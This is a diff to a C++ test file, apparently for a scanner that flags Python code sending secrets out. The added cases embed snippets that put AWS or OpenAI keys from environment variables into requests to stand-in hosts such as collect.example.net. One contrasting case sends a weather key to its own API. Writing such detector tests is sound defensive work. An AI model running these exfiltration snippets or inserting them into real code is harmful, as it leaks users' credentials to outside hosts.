@@ -117,6 +117,17 @@ TEST(NinetiethRoundClasses, AClientSessionSendsTheHeadersAndAuthItKeeps) {
        "with httpx.Client(headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}) as c:\n"
        "    c.post('https://203.0.113.9/v1/in', json={'x': 1})\n",
        "EXFILTRATION"},
+      {"session.params carrying an AWS secret", B,
+       "import os, requests\n"
+       "s = requests.Session()\n"
+       "s.params = {'key': os.environ['AWS_SECRET_ACCESS_KEY']}\n"
+       "s.get('https://collect.example.net/ingest', timeout=5)\n",
+       "EXFILTRATION"},
+      {"a weather API's own key in the session's params", L,
+       "import os, requests\n"
+       "s = requests.Session()\n"
+       "s.params.update({'api_key': os.environ['OPENWEATHER_API_KEY']})\n"
+       "print(s.get('https://api.openweathermap.org/data/2.5/weather', params={'q': 'Oslo'}, timeout=5).json())\n"},
       {"a Request's add_header with an AWS secret", B,
        "import os, urllib.request\n"
        "req = urllib.request.Request('https://collect.example.net/ingest')\n"
